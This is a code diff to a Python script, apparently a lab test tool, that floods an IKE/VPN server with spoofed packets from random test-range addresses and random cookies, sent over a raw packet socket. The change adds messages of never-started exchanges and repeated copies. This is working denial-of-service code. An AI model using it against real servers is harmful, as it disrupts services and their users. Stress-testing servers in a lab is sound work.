@@ -1,8 +1,8 @@
-"""Spoofed first messages at a rate, in a process of its own: `python flood.py '<JSON>'`.
+"""Spoofed IKE messages at a rate, in a process of its own: `python flood.py '<JSON>'`.
 
-Every frame has a random source in 198.18.0.0/15 (RFC 2544: for tests), a random port and a random
-initiator cookie. Prints, as JSON, what was really sent. Standard library only, and no more work a
-frame than it takes: it shares two cores with the server that it attacks.
+Every message has a random source in 198.18.0.0/15 (RFC 2544: for tests), a random port and random
+cookies: the initiator's, or both. Prints, as JSON, what was really sent. Standard library only,
+and no more work a frame than it takes: it shares two cores with the server that it attacks.
 """
 
 from __future__ import annotations
@@ -26,14 +26,16 @@ _SOL_PACKET = 263
 
 @dataclass(frozen=True, slots=True)
 class Order:
-    """`frames` are templates in hex, one for each port; the cookie follows `cookie_at` octets
+    """`frames` are templates in hex, one for each port; the cookies follow `cookie_at` octets
     into the payload."""
 
     device: str
     frames: tuple[tuple[str, int], ...]  # frame, cookie_at
-    rate: int
+    rate: int  # frames a second
     seconds: float
     seed: int
+    cookies: int = 1  # 2: messages of exchanges that the server never knew
+    copies: int = 1  # of each message
 
 
 @dataclass(frozen=True, slots=True)
@@ -54,10 +56,12 @@ class Flood:
 class _Template:
     """A frame whose source and cookie change; the checksum of the rest is known."""
 
-    def __init__(self, frame: bytes, cookie_at: int) -> None:
+    def __init__(self, frame: bytes, cookie_at: int, cookies: int) -> None:
         self._frame = bytearray(frame)
         self._cookie_at = _MESSAGE + cookie_at
         self._frame[24:30] = bytes(6)  # checksum and source
+        self._destination = int.from_bytes(self._frame[30:34], "big")
+        self._cookies = struct.Struct(f"!{cookies}Q")
         self._sum = sum(struct.unpack_from("!10H", self._frame, 14))
         self.octets = len(frame) - _MESSAGE
 
@@ -68,25 +72,25 @@ class _Template:
         total = self._sum + (source >> 16) + (source & 0xFFFF)
         total = (total & 0xFFFF) + (total >> 16)
         total = (total & 0xFFFF) + (total >> 16)
-        struct.pack_into(
-            "!HIIH", frame, 24, total ^ 0xFFFF, source, self._destination, drawn >> 17 & 0xFFFF | 1
-        )
-        struct.pack_into("!Q", frame, self._cookie_at, drawn >> 40 & 0xFFFFFFFFFFFFFFFF | 1)
+        port = drawn >> 17 & 0xFFFF | 1
+        struct.pack_into("!HIIH", frame, 24, total ^ 0xFFFF, source, self._destination, port)
+        self._cookies.pack_into(frame, self._cookie_at, *self._draw(drawn >> 40))
         return frame
 
-    @property
-    def _destination(self) -> int:
-        return int.from_bytes(self._frame[30:34], "big")
+    def _draw(self, drawn: int) -> tuple[int, ...]:
+        cookie = drawn & 0xFFFFFFFFFFFFFFFF | 1
+        return (cookie, cookie ^ 0xFFFFFFFFFFFFFFFF)[: self._cookies.size // 8]
 
 
 def run(order: Order) -> Flood:
     """Send for `order.seconds`, in ticks; what a late tick owes is sent by the next."""
-    templates = [_Template(bytes.fromhex(frame), at) for frame, at in order.frames]
+    templates = [_Template(bytes.fromhex(frame), at, order.cookies) for frame, at in order.frames]
+    template = templates[0]
     rng = random.Random(order.seed)
     out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
     out.setsockopt(_SOL_PACKET, _PACKET_QDISC_BYPASS, 1)
     out.bind((order.device, 0))
-    sent = octets = refused = 0
+    sent = octets = refused = drawn = 0
     most = int(order.rate * order.seconds)
     began = time.monotonic()
     while sent + refused < most:
@@ -94,9 +98,11 @@ def run(order: Order) -> Flood:
         if elapsed > 2 * order.seconds:  # a machine too slow: say so by the numbers
             break
         for _ in range(min(most, int(elapsed * order.rate)) - sent - refused):
-            template = templates[sent % len(templates)]
+            if sent % order.copies == 0:
+                template = templates[sent // order.copies % len(templates)]
+                drawn = rng.getrandbits(128)
             try:
-                out.send(template.fill(rng.getrandbits(128)))
+                out.send(template.fill(drawn))
             except OSError as error:
                 if error.errno not in (errno.ENOBUFS, errno.EAGAIN):
                     raise
